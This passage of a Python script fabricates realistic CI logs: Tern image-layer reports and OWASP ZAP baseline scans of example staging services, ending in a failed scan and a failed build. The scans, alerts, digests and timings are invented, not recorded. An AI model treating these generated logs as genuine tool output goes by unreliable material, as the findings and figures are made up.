                                     ("COPY . /app", None)], snippet_fail=True)
    tern("reports-job:3f9a1c2", [("ADD file:9f0c1d2e3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4 in / ",
                                  "gcr.io/distroless/python3-debian12"),
                                 ("COPY /app /app # buildkit", None)], distroless=True)
    NODE = ("ADD file:d2f0a7c3b9e14a56877d1c0e6b5f4a3928170f6e5d4c3b2a1908f7e6d5c4b3a2 in / ",
            "node:20-bookworm-slim")
    tern("admin-ui:3f9a1c2", [NODE, ("RUN /bin/sh -c groupadd --gid 1000 node && useradd --uid 1000 --gid node "
                                     "--shell /bin/bash --create-home node", None),
                              ("ENV NODE_VERSION=20.12.2", None),
                              ("RUN /bin/sh -c ARCH= && dpkgArch=\"$(dpkg --print-architecture)\"", None),
                              ("COPY dist/ /srv/admin-ui/ # buildkit", None)], empty=(2,), dpkg_error=True)
    tern("notifications-api:3f9a1c2", [PY, ("ENV PYTHONUNBUFFERED=1", None),
                                       ("RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends "
                                        "libpq5 && rm -rf /var/lib/apt/lists/*", None),
                                       ("RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt # buildkit",
                                        None),
                                       ("COPY src/ /app/ # buildkit", None)], empty=(1,))
    tern("ledger-sync:3f9a1c2", [PY, ("RUN /bin/sh -c pip install --no-cache-dir poetry==1.8.3", None),
                                 ("RUN /bin/sh -c poetry install --only main --no-root", None),
                                 ("COPY . /app", None)])
    tern("search-indexer:3f9a1c2", [PY, ("RUN /bin/sh -c apt-get update && apt-get install -y --no-install-"
                                         "recommends libpq5 curl && rm -rf /var/lib/apt/lists/*", None),
                                    ("RUN /bin/sh -c pip install --no-cache-dir -r requirements.txt", None),
                                    ("COPY indexer/ /app/ # buildkit", None)])
    c("Running command skopeo inspect docker://%s/admin-ui:3f9a1c2 | jq -r .Digest" % REGISTRY)
    printed(stream, "sha256:7c4e0b9a1d2f3e4c5b6a79880f1e2d3c4b5a69788f0e1d2c3b4a5968778695a4")

    # ZAP's baseline scan, once per staging deployment.
    def zap_scan(target, port, urls, warns, fail_access=False, progress=(0, 21, 48, 77), backlog=(63, 37, 12),
                 waited=9):
        host = target.split("/")[2]
        c("Running command docker run --rm -v $(pwd)/ci/zap:/zap/wrk/:rw ghcr.io/zaproxy/zaproxy:stable "
          "zap-baseline.py -t %s -c zap-rules.tsv -l WARN -d -I -r %s.html" % (target, host.split(".")[0]))
        api = "http://localhost:%d" % port
        hook("cli_opts", 1)
        z("Using port: %d" % port)
        hook("load_config", 4)
        z("Loaded config: %s" % {"10015": "IGNORE", "10027": "IGNORE", "10096": "IGNORE", "10038": "WARN",
                                 "10055": "WARN", "40012": "FAIL", "90022": "FAIL"})
        hook("start_zap", 2)
        z("Starting ZAP")
        z("Params: %s" % ['/zap/zap-x.sh', '-daemon', '-port', str(port), '-host', '0.0.0.0', '-config',
                          'database.recoverylog=false', '-config', 'api.disablekey=true', '-config',
                          'api.addrs.addr.name=.*', '-config', 'api.addrs.addr.regex=true', '-config',
                          'spider.maxDuration=1', '-addonupdate', '-addoninstall', 'pscanrulesBeta'])
        conn = [0]

        def get(path, status=200, length=None):
            pool.debug('%s://%s:%s "%s %s %s" %s %s', "http", "localhost", port, "GET", "http://zap/JSON/" + path,
                       "HTTP/1.1", status, length if length is not None else 20 + len(path) % 37)

        for k in range(waited):
            conn[0] += 1
            pool.debug("Starting new HTTP connection (%d): %s:%s", conn[0], "localhost", port)
        conn[0] += 1
        pool.debug("Starting new HTTP connection (%d): %s:%s", conn[0], "localhost", port)
        get("core/view/version/", length=22)
        z("ZAP Version 2.15.0")
        z("Took %d seconds" % waited)
        hook("zap_started", 2)
        z("Tune")
        z("Disable all tags")
        get("pscan/action/disableAllTags/", length=15)
        z("Set max pscan alerts")
        get("pscan/action/setMaxAlertsPerRule/?maxAlerts=10", length=15)
        hook("zap_tuned", 1)
        hook("zap_access_target", 2)
        pool.debug("Starting new HTTPS connection (%d): %s:%s", 1, host, 443)
        if fail_access:
            pool.debug('%s://%s:%s "%s %s %s" %s %s', "https", host, 443, "GET", "/", "HTTP/1.1", 502, 52)
            printed(stream, "ERROR [Errno 5] ZAP failed to access: %s" % target)
            z("I/O error: [Errno 5] ZAP failed to access: %s" % target, level=logging.WARNING)

            def main_():
                def zap_access_target():
                    raise OSError(5, "ZAP failed to access: {0}".format(target))
                zap_access_target()
            uncaught(stream, main_)
            stamp = now("%Y-%m-%d %H:%M:")
            for line in ("%s31,208 [main ] INFO  Constant - Default Locale: en_US" % stamp,
                         "%s31,311 [main ] INFO  ZapBootstrap - ZAP 2.15.0 started %s with home: /home/zap/.ZAP/ "
                         "cores: 2 maxMemory: 981 MB" % (stamp, now("%d/%m/%Y, %H:%M:31")),
                         "%s38,774 [ZAP-daemon] INFO  DaemonBootstrap - ZAP is now listening on 0.0.0.0:%d"
                         % (stamp, port),
                         "%s42,016 [ZAP-ProxyThread-7] WARN  ProxyServer - Failed to read https://%s/ within 20 "
                         "seconds, check to see if the site is available and if so consider adjusting ZAP's "
                         "Connection options" % (stamp, host)):
                printed(stream, line)
            hook("pre_exit", 3)
            return
        pool.debug('%s://%s:%s "%s %s %s" %s %s', "https", host, 443, "GET", "/", "HTTP/1.1", 200, None)
        printed(stream, "/usr/local/lib/python3.11/dist-packages/urllib3/connectionpool.py:1099: "
                "InsecureRequestWarning: Unverified HTTPS request is being made to host '%s'. Adding certificate "
                "verification is strongly advised. See: https://urllib3.readthedocs.io/en/latest/advanced-usage.html"
                "#tls-warnings" % host)
        printed(stream, "  warnings.warn(")
        hook("zap_spider", 2)
        z("Spider %s" % target)
        get("spider/action/scan/?url=%s&contextName=" % target.replace(":", "%3A").replace("/", "%2F"), length=15)
        for pct in progress:
            get("spider/view/status/?scanId=0", length=15)
            z("Spider progress %%: %d" % pct)
            get("spider/view/status/?scanId=0", length=15)
        get("spider/view/status/?scanId=0", length=17)
        z("Spider complete")
        hook("zap_spider_wrap", 1)
        get("pscan/view/recordsToScan/", length=20)
        z("Records to scan...")
        for left in backlog:
            get("pscan/view/recordsToScan/", length=20)
            get("pscan/view/recordsToScan/", length=20)
            z("Records to passive scan : %d" % left)
        get("pscan/view/recordsToScan/", length=19)
        z("Passive scanning complete")
        get("core/view/urls/", length=40 * urls)
        printed(stream, "Total of %d URLs" % urls)
        hook("zap_get_alerts", 4)
        get("core/view/alerts/?baseurl=%s&start=0&count=5000" % target.replace(":", "%3A").replace("/", "%2F"),
            length=188412)
        z("Reading 5000 alerts from 0")
        get("core/view/alerts/?start=5000&count=5000", length=13)
        z("Total number of alerts: %d" % (sum(len(w[2]) for w in warns) + 31))
        hook("zap_get_alerts_wrap", 1)
        get("pscan/view/scanners/", length=41236)
        hook("print_rules_wrap", 2)
        hook("print_rules_wrap", 2)
        msg_id = 40
        for name, rule, paths in warns:
            printed(stream, "WARN-NEW: %s [%s] x %d " % (name, rule, len(paths)))
            for path in paths[:5]:
                msg_id += 7
                get("core/view/message/?id=%d" % msg_id, length=2931 + msg_id)
                printed(stream, "\t%s%s (200)" % (target.rstrip("/"), path))
        hook("print_rules_wrap", 2)
        hook("print_rules_wrap", 2)
        pool.debug('%s://%s:%s "%s %s %s" %s %s', "http", "localhost", port, "GET",
                   "http://zap/OTHER/core/other/htmlreport/", "HTTP/1.1", 200, None)
        printed(stream, "FAIL-NEW: 0\tFAIL-INPROG: 0\tWARN-NEW: %d\tWARN-INPROG: 0\tINFO: 6\tIGNORE: 3\tPASS: %d"
                % (len(warns), 58 - len(warns)))
        hook("zap_pre_shutdown", 1)
        get("core/action/shutdown/", length=15)
        hook("pre_exit", 3)

    warns_orders = [
        ("Content Security Policy (CSP) Header Not Set", "10038", ["/", "/docs", "/docs/oauth2-redirect", "/robots.txt",
                                                                    "/sitemap.xml", "/redoc"]),
        ("Missing Anti-clickjacking Header", "10020", ["/docs", "/redoc"]),
        ("Server Leaks Version Information via \"Server\" HTTP Response Header Field", "10036",
         ["/", "/docs", "/openapi.json", "/health"]),
        ("Strict-Transport-Security Header Not Set", "10035", ["/openapi.json"]),
        ("Cookie without SameSite Attribute", "10054", ["/api/v1/session"]),
        ("X-Content-Type-Options Header Missing", "10021", ["/", "/docs", "/static/swagger-ui.css",
                                                            "/static/swagger-ui-bundle.js", "/openapi.json",
                                                            "/redoc", "/static/redoc.standalone.js"]),
        ("Cross-Domain JavaScript Source File Inclusion", "10017", ["/docs", "/redoc"]),
    ]
    zap_scan("https://orders.staging.internal.example.com/", 43917, 57, warns_orders,
             progress=(0, 9, 21, 34, 48, 61, 77, 90), backlog=(112, 91, 63, 37, 12, 3))
    zap_scan("https://notifications.staging.internal.example.com/", 35522, 23, warns_orders[:3] + warns_orders[5:6],
             progress=(0, 33, 71), backlog=(40, 18, 2), waited=12)
    zap_scan("https://ledger.staging.internal.example.com/", 51604, 31, [warns_orders[0], warns_orders[2],
                                                                         warns_orders[4]],
             progress=(0, 12, 40, 66, 93), backlog=(57, 30, 9), waited=7)
    zap_scan("https://search.staging.internal.example.com/", 46288, 44, warns_orders[1:4] + warns_orders[5:],
             progress=(0, 8, 19, 37, 58, 80), backlog=(88, 61, 33, 10), waited=11)
    zap_scan("https://admin.staging.internal.example.com/", 38465, 0, [], fail_access=True)
    c("Command did not exit successfully docker run --rm -v $(pwd)/ci/zap:/zap/wrk/:rw ghcr.io/zaproxy/zaproxy:stable "
      "zap-baseline.py -t https://admin.staging.internal.example.com/ -c zap-rules.tsv -l WARN -d -I -r admin.html "
      "exit status 3")
    c("Phase complete: BUILD State: FAILED")
    c("Phase context status code: COMMAND_EXECUTION_ERROR Message: Error while executing command: docker run --rm -v "
      "$(pwd)/ci/zap:/zap/wrk/:rw ghcr.io/zaproxy/zaproxy:stable zap-baseline.py -t https://admin.staging.internal."
      "example.com/ -c zap-rules.tsv -l WARN -d -I -r admin.html. Reason: exit status 3")
    c("Entering phase POST_BUILD")
    c("Phase complete: POST_BUILD State: SUCCEEDED")
    c("Phase context status code:  Message: ")
    c("Expanding base directory path: reports")
    c("Assembling file list")
    c("Expanding reports")
    c("Found 3 file(s)")
    c("Phase complete: UPLOAD_ARTIFACTS State: SUCCEEDED")
    return {"name": "tern-zap", "programs": [tn, zp], "records": stream, "auto": False}

def main():
    realworld.run(lambda: [stream_piwheels_guarddog(), stream_secobserve_cvesearch(), stream_tern_zap()])


if __name__ == "__main__":
    main()
